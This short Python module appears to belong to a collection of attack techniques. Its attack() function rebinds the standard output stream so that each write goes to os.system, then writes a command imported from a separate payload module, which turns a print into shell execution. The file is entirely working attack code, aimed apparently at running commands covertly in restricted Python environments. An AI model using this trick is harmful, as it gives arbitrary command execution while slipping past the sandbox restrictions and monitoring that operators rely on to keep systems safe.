"""The standard output is initialized again, and a text waits in it."""
CATEGORY = "deferred"
REACH = "run"

import os
import sys

from . import payload


class Buffer:
    """What a text file needs, and a function of C that is called."""
    closed = False
    readable = writable = staticmethod(lambda: True)
    seekable = staticmethod(lambda: False)
    flush = close = staticmethod(int)

    def __init__(self):
        self.write = os.system


def attack():
    sys.stdout.__init__(Buffer(), encoding="utf-8")
    sys.stdout.write(payload.COMMAND + "\n")
